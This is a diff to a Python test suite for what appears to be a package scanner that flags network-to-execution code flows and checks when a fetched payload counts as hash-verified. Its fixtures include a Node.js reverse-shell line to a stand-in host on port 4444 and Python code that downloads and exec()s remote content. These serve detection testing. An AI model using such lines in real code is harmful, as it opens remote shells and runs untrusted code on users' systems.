@@ -101,3 +101,23 @@ def test_a_shell_joined_to_a_socket_runs_what_comes_from_the_network() -> None:
         "const c = new net.Socket(); c.connect(4444, 'x.example', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })"
     )
     assert "code.flow network > execution" in short(package({"index.js": code}))
+
+
+FETCHED = "import requests, hashlib\nd = requests.get('https://x.example').content\n"
+
+
+@pytest.mark.parametrize(
+    ("check", "flow"),
+    [
+        ("hashlib.sha256(d).hexdigest()", "network"),
+        ("if hashlib.sha256(d).hexdigest() != requests.get('https://x.example/s').text: raise E", "network"),
+        ("if hashlib.sha256(d).hexdigest() != 'abc': raise E", "verified"),
+        ("h = hashlib.sha256(); h.update(d); assert h.hexdigest() == EXPECTED", "verified"),
+    ],
+    ids=["hashed", "compared with what was fetched too", "compared", "compared later"],
+)
+def test_only_a_digest_that_is_compared_with_something_known_pins_what_was_fetched(
+    check: str, flow: str
+) -> None:
+    found = short(package({"pkg/__init__.py": f"{FETCHED}{check}\nexec(d)\n"}))
+    assert {f for f in found if f.endswith("> execution")} == {f"code.flow {flow} > execution"}
